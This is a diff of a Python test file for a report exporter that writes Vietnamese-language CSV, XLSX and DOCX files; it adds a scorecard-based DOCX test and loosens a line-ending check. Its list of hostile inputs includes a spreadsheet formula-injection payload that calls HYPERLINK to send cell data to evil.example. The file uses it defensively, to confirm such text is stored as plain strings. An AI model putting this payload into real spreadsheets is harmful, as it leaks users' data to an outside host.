@@ -11,8 +11,10 @@ from xml.etree import ElementTree
 
 import pytest
 
+from application.assessment_report import write_report
 from application.cells import csv_row, csv_value, printable, xlsx_row
-from application.docx import Document
+from domain.letterhead import Letterhead
+from domain.scoring import Scorecard
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
@@ -45,7 +47,11 @@ def test_text_that_looks_like_a_formula_is_a_string_cell(tmp_path: Path) -> None
     first, second = list(read.iter_rows())
     assert all(c.data_type != "f" for c in (*first, *second))
     seen = [*(v.replace("\r", "\n") for v in HOSTILE), 12, -3.5, None, "Bình thường"]
-    assert [c.value for c in first] == seen  # (XML reads a lone CR as a line feed)
+    # (a parser may read a lone CR as a line feed: lxml, which python-docx brings, keeps it)
+    read_back = [
+        c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in first
+    ]
+    assert read_back == seen
     assert (first[11].data_type, first[12].data_type) == ("n", "n")  # numbers stay numbers
     assert all(c.quotePrefix for c in first[:11])  # editing it in Excel keeps it text
     assert not first[14].quotePrefix
@@ -70,14 +76,26 @@ def test_printable_keeps_tabs_and_line_breaks() -> None:
 
 @pytest.mark.parametrize("text", ["Kế hoạch\x00 số 12\x01/KH\x0b-UBND\x0c\x1f", "\x08\x1b[31mđỏ"])
 def test_a_docx_with_control_characters_opens(tmp_path: Path, text: str) -> None:
-    doc = Document()
-    doc.heading(text)
-    doc.paragraph("Giải trình: " + text)
-    doc.table(["Mã", text], [["1.1.1", text]])
+    card = Scorecard(
+        framework="fw",
+        scale=100,
+        areas=(),
+        bonus=0,
+        penalty=0,
+        self_total=0,
+        self_index=0,
+        self_grade=None,
+        appraised_total=None,
+        appraised_index=None,
+        appraised_grade=None,
+    )
+    head = Letterhead(body="UBND phường " + text, parent="UBND Quận 9", signer=text)
     path = tmp_path / "r.docx"
-    doc.save(path)
+    write_report(
+        card, path, year=2020, head=head, difficulties="Khó khăn: " + text, files_by_item={}
+    )
     with zipfile.ZipFile(path) as archive:
         root = ElementTree.fromstring(archive.read("word/document.xml"))  # well-formed XML
     words = "".join(root.itertext())
     assert printable(text) in words
-    assert "Giải trình: " in words
+    assert "Khó khăn: " in words
